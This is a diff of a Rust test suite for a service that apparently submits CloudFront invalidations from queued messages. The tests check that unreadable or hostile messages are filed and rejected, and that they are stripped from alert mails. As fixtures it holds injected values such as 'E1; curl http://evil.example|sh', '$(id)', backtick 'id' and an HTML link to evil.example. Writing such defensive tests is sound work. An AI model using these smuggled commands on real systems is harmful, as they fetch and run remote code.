@@ -628,66 +628,355 @@ async fn what_is_left_of_a_set_becomes_a_message_of_its_own() {
     );
 }
 
+/// Each row: a message that cannot be read, and why.
+const UNREADABLE: &[(&str, &str)] = &[
+    ("hello", "not a set of paths"),
+    (
+        r#"{"v":7,"distribution":"E1","paths":["/a"]}"#,
+        "of version 7",
+    ),
+    (r#"{"v":1,"distribution":"E1"}"#, "paths"),
+    (r#"{"v":1,"distribution":"E1","paths":[]}"#, "no paths"),
+    (
+        r#"{"v":1,"distribution":"E1","paths":["a b"]}"#,
+        "`a b` is not an invalidation path",
+    ),
+    (
+        r#"{"v":1,"distribution":"E1; curl http://evil.example|sh","paths":["/a"]}"#,
+        "is not the id of a distribution",
+    ),
+    (
+        r#"{"v":1,"distribution":"E1","tenant":"<a href=//evil.example>","paths":["/a"]}"#,
+        "is not the id of a distribution tenant",
+    ),
+    (
+        r#"{"v":1,"distribution":"E1","paths":["/a"],"caller_reference":"x"}"#,
+        "not one of the function's own",
+    ),
+];
+
+/// Such a message at the head of its group blocked its distribution for four hours.
 #[tokio::test]
 async fn a_message_that_cannot_be_read_does_not_block_its_group() {
     let account = Account::new(&[]).await;
     account.cloudfront.add(site("E1"));
-    account.enqueue("E1/paths", "1", "hello").await;
-    account
-        .enqueue(
-            "E1/paths",
-            "2",
-            r#"{"v":7,"distribution":"E1","paths":["/a"]}"#,
-        )
-        .await;
-    account
-        .enqueue(
-            "E1/paths",
-            "3",
-            r#"{"v":1,"distribution":"E1","paths":["/b"]}"#,
-        )
-        .await;
-    assert_eq!(account.submit().await, 0);
-    assert_eq!(account.cloudfront.paths("E1"), ["/b"]);
-    let files = account.error_files().await;
-    let mut texts: Vec<_> = files.iter().map(|(_, _, text)| text.as_str()).collect();
-    texts.sort_unstable();
-    assert_eq!(
-        texts,
-        ["hello", r#"{"v":7,"distribution":"E1","paths":["/a"]}"#]
+    let many = format!(
+        r#"{{"v":1,"distribution":"E1","paths":[{}]}}"#,
+        vec!["\"/a\""; 3_001].join(",")
     );
-    assert!(files[0].0.ends_with("_unreadable.txt"), "{}", files[0].0);
+    let too_many = [(many.as_str(), "3001 paths, more than the 3000 of a set")];
+    let rows: Vec<_> = UNREADABLE.iter().chain(&too_many).collect();
+    for (n, (body, _)) in rows.iter().enumerate() {
+        account.enqueue("E1/paths", &n.to_string(), body).await;
+    }
+    account.enqueue("E1/paths", "readable", SET).await;
+    assert_eq!(account.submit().await, 0);
+    assert_eq!(account.cloudfront.paths("E1"), ["/set"]);
+    let files = account.error_files().await;
+    for (body, expected) in &rows {
+        let file = files.iter().find(|(.., text)| text == body);
+        let (key, metadata, _) = file.unwrap();
+        assert!(key.ends_with("_unreadable.txt"), "{key}");
+        assert_eq!(metadata["error-code"], "UnreadableMessage");
+        let why = &metadata["error-message"];
+        assert!(why.contains(expected), "{why}");
+    }
+    assert_eq!(files.len(), rows.len());
     let mails = account.mails().await;
     assert_eq!(mails.len(), 1);
-    assert!(mails[0].1.contains("of version 7"), "{}", mails[0].1);
+    let (subject, text) = &mails[0];
+    assert_eq!(subject, "[Error] CloudFront Invalidation");
+    let quoted = text
+        .lines()
+        .filter(|line| line.starts_with("from the message: message group E1/paths: "));
+    assert!(quoted.count() > 0, "{text}");
+    assert!(
+        !text.contains("http://evil") && !text.contains("invalidatorctl replay"),
+        "{text}"
+    );
+    assert!(
+        !text.contains(|c: char| c.is_control() && c != '\n'),
+        "{text}"
+    );
+}
+
+/// An id in a message was a link in the mail, and a command in the line that an admin pastes.
+#[tokio::test]
+async fn what_a_message_says_is_neither_a_link_nor_a_command_in_the_mail() {
+    let account = Account::new(&[]).await;
+    account.cloudfront.add(site("E1"));
+    let denied = Fault::AccessDenied.always();
+    account
+        .cloudfront
+        .fail(denied.on(Operation::CreateInvalidation));
+    let unknown = r#"{"v":1,"distribution":"EMADEUP","paths":["/http://evil.example/;id","/www.evil.example/"]}"#;
+    let refused = r#"{"v":1,"distribution":"E1","paths":["/$(id)","/`id`","/'"],"by":"http://evil.example","reason":"\u001b[31m"}"#;
+    let illegal = r#"{"v":1,"distribution":"E1; curl http://evil.example|sh","paths":["/a"]}"#;
+    for (group, body) in [
+        ("http://evil.example/paths", illegal),
+        ("EMADEUP/paths", unknown),
+        ("E1/paths", refused),
+    ] {
+        account.enqueue(group, group, body).await;
+    }
+    assert_eq!(account.submit().await, 0);
+    let files = account.error_files().await;
+    assert_eq!(files.len(), 3);
+    let mails = account.mails().await;
+    for (_, text) in &mails {
+        assert!(
+            !text.contains("://evil") && !text.contains("www.evil"),
+            "{text}"
+        );
+        assert!(
+            !text.contains(|c: char| c.is_control() && c != '\n'),
+            "{text}"
+        );
+        let commands = text
+            .lines()
+            .filter(|line| line.starts_with("invalidatorctl"));
+        for command in commands {
+            let is_plain = |c: char| c.is_ascii_alphanumeric() || "-_./: ".contains(c);
+            assert!(command.chars().all(is_plain), "{command}");
+        }
+    }
+    let texts: String = mails.into_iter().map(|(_, text)| text).collect();
+    for (key, ..) in files {
+        assert!(texts.contains(&key), "{key} is in no mail: {texts}");
+    }
 }
 
 #[tokio::test]
+async fn a_message_whose_file_cannot_be_written_waits_and_an_alarm_knows() {
+    let account = Account::new(&[]).await;
+    account.flush().await;
+    account.delete_error_bucket().await;
+    account.enqueue("E1/paths", "1", "hello").await;
+    account.take_metrics();
+    assert_eq!(account.submit_once().await, 1);
+    assert_eq!(account.waiting_sets().await, 1);
+    let metrics = account.take_metrics();
+    assert_eq!(metrics["OldestChange"].len(), 1);
+    assert_eq!(metrics["SetsUnreadable"], [1]);
+}
+
+/// Eight submits at once, as the template allows, with ten messages each.
+#[tokio::test]
+async fn a_flood_of_messages_that_cannot_be_read_is_one_mail_and_holds_up_nobody() {
+    let account = Account::new(&[]).await;
+    account.cloudfront.add(site("E1"));
+    for n in 0..80 {
+        let group = format!("group-{n}");
+        account.enqueue(&group, &group, &format!("flood {n}")).await;
+    }
+    account.enqueue("E1/paths", "set", SET).await;
+    assert_eq!(account.submit_at_once(8).await, 0);
+    assert_eq!(account.cloudfront.paths("E1"), ["/set"]);
+    assert_eq!(account.error_files().await.len(), 80);
+    assert_eq!(account.mails().await.len(), 1);
+    account.put_forward(Duration::from_secs(31 * 60));
+    account.flush().await;
+    let mails = account.mails().await;
+    assert_eq!(mails.len(), 1, "the digest");
+    assert!(
+        mails[0].1.contains("80 messages rejected since"),
+        "{}",
+        mails[0].1
+    );
+}
+
+/// Each row: the setting, the targets that messages name, and why each is rejected.
+#[tokio::test]
 async fn a_target_that_is_unknown_or_not_allowed_is_rejected() {
+    for (setting, rows) in [
+        (
+            "E1,dt_1",
+            &[
+                (r#""E2""#, "DistributionIds leaves E2 out"),
+                (r#""ENONE""#, "DistributionIds leaves ENONE out"),
+                (r#""E3","tenant":"dt_3""#, "leaves dt_3 (tenant of E3) out"),
+                (r#""E1","tenant":"dt_3""#, "leaves dt_3 (tenant of E1) out"),
+                (
+                    r#""E1","tenant":"dt_1""#,
+                    "E1 is not a multi-tenant distribution",
+                ),
+            ][..],
+        ),
+        (
+            "",
+            &[
+                (
+                    r#""ENONE""#,
+                    "there is no distribution ENONE in this account",
+                ),
+                (
+                    r#""E1","tenant":"dt_3""#,
+                    "E1 is not a multi-tenant distribution",
+                ),
+                (r#""E3""#, "E3 serves nothing itself"),
+                (r#""E4","tenant":"dt_3""#, "there is no dt_3 (tenant of E4)"),
+                (r#""E3","tenant":"dt_4""#, "there is no dt_4 (tenant of E3)"),
+                // CloudFront finds this one by its name.
+                (
+                    r#""E3","tenant":"dt_dt_3""#,
+                    "there is no dt_dt_3 (tenant of E3)",
+                ),
+            ],
+        ),
+    ] {
+        let account = Account::new(&[("DISTRIBUTION_IDS", setting)]).await;
+        account.cloudfront.add(site("E1"));
+        account.cloudfront.add(site("E2"));
+        for id in ["E3", "E4"] {
+            account.cloudfront.add(site(id).tenant_only());
+        }
+        account.cloudfront.add_tenant("E3", "dt_3", true);
+        account.cloudfront.add_tenant("E3", "dt_dt_dt_3", true);
+        for (n, (target, _)) in rows.iter().enumerate() {
+            let body = format!(r#"{{"v":1,"distribution":{target},"paths":["/{n}"]}}"#);
+            let group = format!("group-{n}");
+            account.enqueue(&group, &group, &body).await;
+        }
+        assert_eq!(account.submit().await, 0, "{setting}");
+        let files = account.error_files().await;
+        assert_eq!(files.len(), rows.len());
+        for (n, (target, expected)) in rows.iter().enumerate() {
+            let path = format!("\n/{n}\n");
+            let file = files.iter().find(|(.., text)| text.contains(&path));
+            let metadata = &file.unwrap().1;
+            assert_eq!(metadata["error-code"], "UnknownDistribution");
+            let why = &metadata["error-message"];
+            assert!(why.contains(expected), "{target}: {why}");
+        }
+        let calls = account.cloudfront.calls();
+        assert!(calls.iter().all(|call| call.paths == 0), "{calls:?}");
+        let mails = account.mails().await;
+        assert_eq!(mails.len(), 1);
+        let todo = "What to do: correct the id, or add it to DistributionIds.";
+        assert!(mails[0].1.contains(todo), "{}", mails[0].1);
+    }
+}
+
+/// A retry message for a distribution outside `DistributionIds` was submitted; only IAM stopped it.
+#[tokio::test]
+async fn a_set_outside_of_distribution_ids_costs_no_call_of_cloudfront() {
     let account = Account::new(&[("DISTRIBUTION_IDS", "E1")]).await;
     account.cloudfront.add(site("E1"));
     account.cloudfront.add(site("E2"));
-    account.cloudfront.add(site("E3").tenant_only());
-    account.cloudfront.add_tenant("E3", "dt_3", true);
-    for (id, target) in [
-        ("1", r#""distribution":"E1""#),
-        ("2", r#""distribution":"E2""#),
-        ("3", r#""distribution":"E1","tenant":"dt_3""#),
-        ("4", r#""distribution":"ENONE""#),
-    ] {
-        let body = format!(r#"{{"v":1,{target},"paths":["/a"]}}"#);
-        account.enqueue(id, id, &body).await;
-    }
+    let body = r#"{"v":1,"distribution":"E2","paths":["/a"],"first_sent":1,"hops":1}"#;
+    account.enqueue("E2/paths", "1", body).await;
     assert_eq!(account.submit().await, 0);
-    assert_eq!(account.cloudfront.paths("E1"), ["/a"]);
-    assert_eq!(account.cloudfront.paths("E2"), [""; 0]);
-    assert_eq!(account.cloudfront.paths("dt_3"), [""; 0]);
-    let codes: Vec<_> = account.error_files().await;
-    let codes: Vec<_> = codes
-        .iter()
-        .map(|(_, it, _)| it["error-code"].as_str())
-        .collect();
-    assert_eq!(codes, ["UnknownDistribution"; 3]);
+    assert_eq!(account.cloudfront.calls(), []);
+    assert_eq!(account.error_files().await.len(), 1);
+}
+
+/// Flushes need the same list, and CloudFront allows few reads.
+#[tokio::test]
+async fn made_up_ids_do_not_make_the_function_list_again_and_again() {
+    let account = Account::new(&[]).await;
+    account.cloudfront.add(site("E1"));
+    account.change(&[(PUT, "a")]).await;
+    account.flush_and_submit().await;
+    account.cloudfront.clear_calls();
+    let mut waiting = 0;
+    for n in 0..12 {
+        let body = format!(r#"{{"v":1,"distribution":"EMADEUP{n}","paths":["/a"]}}"#);
+        account
+            .enqueue(&format!("EMADEUP{n}/paths"), &format!("{n}"), &body)
+            .await;
+        waiting += account.submit_once().await;
+    }
+    let lists = || {
+        account
+            .cloudfront
+            .calls_of(Operation::ListDistributions)
+            .len()
+    };
+    assert_eq!(lists(), 1);
+    let filed = account.error_files().await.len();
+    assert_eq!(filed + waiting, 12, "none is lost");
+    assert!(
+        waiting > 0,
+        "what was sent after the list may be newer than it"
+    );
+    // A known target does not wait for them.
+    account.enqueue("E1/paths", "set", SET).await;
+    assert_eq!(account.submit_once().await, 0);
+    assert_eq!(account.cloudfront.paths("E1"), ["/a", "/set"]);
+    // A minute later the list may be read again.
+    account.cloudfront.add(site("ENEW"));
+    account.put_forward(Duration::from_secs(61));
+    let body = r#"{"v":1,"distribution":"ENEW","paths":["/b"]}"#;
+    account.enqueue("ENEW/paths", "new", body).await;
+    account.submit_once().await;
+    assert_eq!(account.cloudfront.paths("ENEW"), ["/b"]);
+    assert_eq!(lists(), 2);
+}
+
+#[tokio::test]
+async fn made_up_tenants_are_not_looked_up_without_end() {
+    let account = Account::new(&[]).await;
+    account.cloudfront.add(site("E1").tenant_only());
+    account.cloudfront.add_tenant("E1", "dt_1", true);
+    for n in 0..40 {
+        let body = format!(r#"{{"v":1,"distribution":"E1","tenant":"dt_x{n}","paths":["/a"]}}"#);
+        account
+            .enqueue(&format!("dt_x{n}/paths"), &format!("{n}"), &body)
+            .await;
+    }
+    let waiting = account.submit().await;
+    let looked_up = account
+        .cloudfront
+        .calls_of(Operation::GetDistributionTenant);
+    let looked_up = looked_up.len();
+    // Up to ten are looked up at once.
+    assert!((20..30).contains(&looked_up), "{looked_up}");
+    let filed = account.error_files().await.len();
+    assert_eq!((filed, waiting), (looked_up, 40 - looked_up));
+    account.put_forward(Duration::from_secs(61));
+    let body = r#"{"v":1,"distribution":"E1","tenant":"dt_1","paths":["/a"]}"#;
+    account.enqueue("dt_1/paths", "known", body).await;
+    assert_eq!(account.submit_once().await, 0);
+    assert_eq!(account.cloudfront.paths("dt_1"), ["/a"]);
+}
+
+#[tokio::test]
+async fn while_the_distributions_cannot_be_listed_a_set_waits_and_nothing_is_trusted() {
+    let mut account = Account::new(&[]).await;
+    account.time = Duration::from_secs(22);
+    account.cloudfront.add(site("E1"));
+    let denied = Fault::AccessDenied.always();
+    account
+        .cloudfront
+        .fail(denied.on(Operation::ListDistributions));
+    account.enqueue("E1/paths", "1", SET).await;
+    account.take_metrics();
+    assert_eq!(account.submit_once().await, 1, "it waits");
+    assert_eq!(account.cloudfront.paths("E1"), [""; 0]);
+    assert_eq!(account.error_files().await.len(), 0);
+    assert_eq!(account.waiting_sets().await, 1);
+    let metrics = account.take_metrics();
+    assert_eq!(metrics["OldestChange"].len(), 1, "an alarm looks at it");
+}
+
+/// In the message group of a busy target, or of one that nobody knows, it would have held up its neighbors.
+#[tokio::test]
+async fn a_set_in_the_group_of_another_target_holds_up_nobody() {
+    let mut account = Account::new(&[]).await;
+    account.time = Duration::from_secs(22);
+    account.cloudfront.add(site("E1"));
+    account.cloudfront.add(site("E2"));
+    let busy = Fault::TooManyInvalidationsInProgress.always().of("E2");
+    account
+        .cloudfront
+        .fail(busy.on(Operation::CreateInvalidation));
+    let misplaced = r#"{"v":1,"distribution":"E2","paths":["/a"]}"#;
+    account.enqueue("E1/paths", "1", misplaced).await;
+    account.submit_once().await;
+    account.enqueue("E1/paths", "2", SET).await;
+    account.submit().await;
+    assert_eq!(account.cloudfront.paths("E1"), ["/set"]);
+    assert_eq!(account.waiting_sets().await, 1, "in its own group");
 }
 
 #[tokio::test]
@@ -760,15 +1049,69 @@ async fn two_flushes_at_once_do_no_harm() {
     assert_eq!(account.buffered().await, 0);
 }
 
+/// Each row: a message that cannot be read, and why.
+const UNREADABLE_IN_BUFFER: &[(&str, &str)] = &[
+    ("hello", "not a buffered message"),
+    (r#"{"version":9,"buckets":[]}"#, "of version 9"),
+    (
+        r#"{"version":1,"buckets":[{"bucket":"http://evil.example/","created":[["a",null]],"deleted":[]}]}"#,
+        "is not the name of a bucket",
+    ),
+    (
+        r#"{"version":2,"scope":{"targets":["E1;id"],"first_seen":1,"attempts":1},"buckets":[]}"#,
+        "not a buffered message",
+    ),
+    (
+        r#"{"version":3,"group":"한","id":"1","set":{"v":1,"distribution":"E1","paths":["/a"]}}"#,
+        "message group",
+    ),
+    // A set, but in the wrong queue: it is not submitted.
+    (
+        r#"{"v":1,"distribution":"E1","paths":["/set-in-buffer"]}"#,
+        "not a buffered message",
+    ),
+];
+
+/// They stayed in the buffer until they were received a thousand times.
 #[tokio::test]
-async fn a_buffered_message_that_cannot_be_read_stays_and_the_others_are_worked_off() {
+async fn a_buffered_message_that_cannot_be_read_is_filed_and_the_others_are_worked_off() {
     let account = Account::new(&[]).await;
     account.cloudfront.add(site("E1"));
-    account.buffer("hello").await;
+    for (body, _) in UNREADABLE_IN_BUFFER {
+        account.buffer(body).await;
+    }
     account.change(&[(PUT, "a")]).await;
+    account.take_metrics();
     account.flush_and_submit().await;
     assert_eq!(account.cloudfront.paths("E1"), ["/a"]);
-    assert_eq!(account.buffered().await, 1);
+    assert_eq!(
+        (account.buffered().await, account.waiting_sets().await),
+        (0, 0)
+    );
+    let files = account.error_files().await;
+    assert_eq!(files.len(), UNREADABLE_IN_BUFFER.len());
+    for (body, expected) in UNREADABLE_IN_BUFFER {
+        let file = files.iter().find(|(.., text)| text == body);
+        let (key, metadata, _) = file.unwrap();
+        assert!(key.ends_with("_unreadable.txt"), "{key}");
+        let why = &metadata["error-message"];
+        assert!(why.contains(expected), "{why}");
+    }
+    let mails = account.mails().await;
+    assert_eq!(mails.len(), 1);
+    assert!(
+        mails[0]
+            .1
+            .contains("a message of BufferQueue cannot be read"),
+        "{}",
+        mails[0].1
+    );
+    let metrics = account.take_metrics();
+    assert_eq!(
+        metrics["MessagesUnreadable"],
+        [UNREADABLE_IN_BUFFER.len() as u64]
+    );
+    assert!(!metrics.contains_key("MessagesReleased"), "{metrics:?}");
 }
 
 #[tokio::test]
@@ -951,14 +1294,25 @@ async fn a_flush_with_nothing_to_do_is_one_metric_the_heartbeat() {
 }
 
 #[tokio::test]
-async fn a_buffered_message_that_cannot_be_read_is_a_change_that_waits() {
+async fn a_buffered_message_that_cannot_be_handed_over_is_a_change_that_waits() {
     let account = Account::new(&[]).await;
+    let submit = account.app.config.submit_queue.as_str();
+    let delete = account.app.clients.sqs().delete_queue();
+    delete.queue_url(submit).send().await.unwrap();
     account.buffer("hello").await;
-    account.flush().await;
+    account.take_metrics();
+    // As if it had little time.
+    assert_eq!(
+        failed(account.flush_in(Duration::from_secs(31)).await),
+        1,
+        "the tick comes back"
+    );
+    assert_eq!(account.buffered().await, 1);
     let metrics = account.take_metrics();
     assert_eq!(metrics["MessagesUnreadable"], [1]);
+    assert_eq!(metrics["MessagesReleased"], [1]);
     assert_eq!(metrics["OldestChange"].len(), 1);
-    assert_eq!(metrics["FlushesFinished"], [1]);
+    assert_eq!(metrics["FlushesFailed"], [1]);
 }
 
 #[tokio::test]
